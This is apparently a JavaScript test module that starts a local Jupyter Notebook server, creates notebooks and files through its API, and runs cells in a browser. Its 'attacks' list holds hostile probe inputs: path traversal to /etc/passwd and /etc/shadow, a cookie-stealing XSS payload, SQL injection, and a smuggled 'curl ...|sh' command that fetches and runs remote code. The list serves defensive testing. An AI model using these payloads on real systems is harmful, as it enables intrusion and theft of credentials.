// Jupyter: notebooks whose cells are code, run over a WebSocket.
import { mkdir } from 'node:fs/promises'
import { join } from 'node:path'
import { files } from './state.mjs'
import { free } from './stage.mjs'
import { go, languages, markdown, png, python, script, shell, sql, tagged, tutorial, zip } from './texts.mjs'

const token = 'f00dfacef00dface'
const headers = { Authorization: `token ${token}`, 'Content-Type': 'application/json' }

const analysis = `import json, math
rows = [json.loads(line) for line in ['{"n": 1, "name": "O\\'Brien"}', '{"n": 2, "name": "Zoë"}']]
total = sum(math.sqrt(r["n"]) for r in rows if r["n"] > 0 and r["name"] != "")
print(f"{total:.3f} for {len(rows)} rows; {', '.join(r['name'] for r in rows)}")`

const queries = `import sqlite3
db = sqlite3.connect(":memory:")
db.execute("CREATE TABLE t(id INTEGER PRIMARY KEY, name TEXT NOT NULL)")
db.executemany("INSERT INTO t(name) VALUES (?)", [("a",), ("b",)])
for row in db.execute("SELECT name, COUNT(*) FROM t WHERE id > ? GROUP BY name ORDER BY name DESC LIMIT 5", (0,)):
    print(row)`

const sequence = `db.executescript("CREATE TABLE u(id INTEGER PRIMARY KEY); INSERT INTO u VALUES (1), (2);")`

const cell = (kind, source) => ({ cell_type: kind, metadata: {}, source, ...(kind === 'code' && { execution_count: null, outputs: [] }) })

const notebook = (cells) => ({
  type: 'notebook', format: 'json',
  content: { cells, metadata: { kernelspec: { name: 'python3', display_name: 'Python 3', language: 'python' } }, nbformat: 4, nbformat_minor: 4 },
})

const put = (user, path, model) => user.fetch(`/api/contents/${encodeURIComponent(path)}`, { method: 'PUT', headers, body: JSON.stringify(model) })

async function prose(user) {
  await put(user, 'Prose & "quotes".ipynb', notebook(Object.values(languages).map((text) => cell('markdown', text))))
  await put(user, 'Übersicht.txt', { type: 'file', format: 'text', content: Object.values(languages).join('\n') })
  await put(user, 'photo.png', { type: 'file', format: 'base64', content: png.toString('base64') })
  await put(user, 'data.zip', { type: 'file', format: 'base64', content: zip({ 'a.csv': 'id;name\n1;"O\'Brien"\n', 'b.txt': languages.ru }).toString('base64') })
  await user.fetch('/api/contents/%C3%9Cbersicht.txt', { method: 'PATCH', headers, body: JSON.stringify({ path: "Overview (it's new).txt" }) })
}

async function code(user) {
  await put(user, 'Code.ipynb', notebook([cell('markdown', markdown), cell('code', analysis), cell('code', queries), cell('code', python), cell('code', `%%bash\n${shell}`)]))
  for (const [name, content] of Object.entries({ 'main.go': go, 'tracked.py': python, 'report.sql': sql, 'setup.sh': shell, 'README.md': markdown })) {
    await put(user, name, { type: 'file', format: 'text', content })
  }
}

const statements = (user) => put(user, 'Statements.ipynb', notebook([cell('code', `${queries}\n${sequence}`)]))

async function html(user) {
  await put(user, 'Page.ipynb', notebook([cell('markdown', tutorial), cell('code', `%%html\n${script}`)]))
  await put(user, 'page.html', { type: 'file', format: 'text', content: script })
}

// run types cells into a notebook in the browser, runs and saves them.
async function run(user, name, cells) {
  await put(user, name, notebook([cell('code', '')]))
  const page = await user.page()
  await page.goto(`/notebooks/${name}?token=${token}`)
  await page.locator('#kernel_indicator_icon.kernel_idle_icon').waitFor()
  for (const [i, { source, shows }] of cells.entries()) {
    await page.locator('.code_cell .CodeMirror').nth(i).click()
    await page.keyboard.insertText(source)
    await page.keyboard.press('Shift+Enter')
    const one = page.locator('.code_cell').nth(i)
    await one.locator('.output').getByText(shows).first().waitFor()
    await one.locator('.input_prompt', { hasText: `[${i + 1}]` }).waitFor() // output may come before the cell is done
  }
  const saved = page.waitForResponse((r) => r.request().method() === 'PUT' && r.url().includes('/api/contents/'))
  await page.keyboard.press('Control+s')
  if (!(await saved).ok()) throw new Error('the notebook was not saved')
}

const hello = (user) => run(user, 'Hello.ipynb', [
  { source: 'print("Grüße, " + "world" * 2)', shows: 'Grüße, worldworld' },
  { source: '[n ** 2 for n in range(10) if n % 3 == 0]', shows: '[0, 9, 36, 81]' },
])

const compute = (user) => run(user, 'Compute.ipynb', [
  { source: analysis, shows: '2.414 for 2 rows' },
  { source: queries, shows: "('b', 1)" },
  { source: '!ls *.ipynb | head -n 3; echo done', shows: 'done' },
])

export default {
  name: 'jupyter',
  needs: { '/usr/bin/jupyter-notebook': 'jupyter-notebook' },

  async start(stage) {
    const port = await free()
    const notebooks = join(stage.dir, 'notebooks')
    await mkdir(notebooks)
    await stage.start('/usr/bin/jupyter-notebook', ['--no-browser', '--allow-root', '--ip=127.0.0.1', `--port=${port}`, '--port-retries=0',
      `--notebook-dir=${notebooks}`, `--NotebookApp.token=${token}`], { port, env: { HOME: stage.dir, PATH: '/usr/bin:/bin', IPYTHONDIR: join(stage.dir, 'ipython') } })
    return { port, notebooks }
  },

  journeys: [
    { name: 'notes in eight languages, files', walk: prose },
    { name: 'a notebook in the browser', walk: hello },
    { name: 'source files and notebooks with code', walk: code, hard: true },
    { name: 'SQL and shell in a notebook', walk: compute, hard: true },
    { name: 'two SQL statements in a string', walk: statements, hard: true, known: 'a second statement after the end of the first, in the string of a program' },
    { name: 'pages with a script', walk: html, hard: true, known: tagged },
  ],

  // Cells have random names, and checkpoints are copies.
  state: async (user) => (await files(user.app.notebooks, (name) => !name.includes('.ipynb_checkpoints')))
    .map(([name, content]) => [name, content.replace(/"id": "[\w-]+"/g, '"id": "<id>"')]),

  attacks: [
    { target: '/files/..%2f..%2f..%2f..%2fetc%2fpasswd' },
    { target: `/api/contents?path=${encodeURIComponent('../../../../etc/shadow')}` },
    { target: `/tree?q=${encodeURIComponent('"><script>alert(document.cookie)</script>')}` },
    { target: `/api/sessions?id=${encodeURIComponent("1' UNION SELECT token, 1 FROM users-- ")}` },
    { target: `/nbextensions/x.js?v=${encodeURIComponent('$(curl http://203.0.113.7/x|sh)')}` },
  ],
}
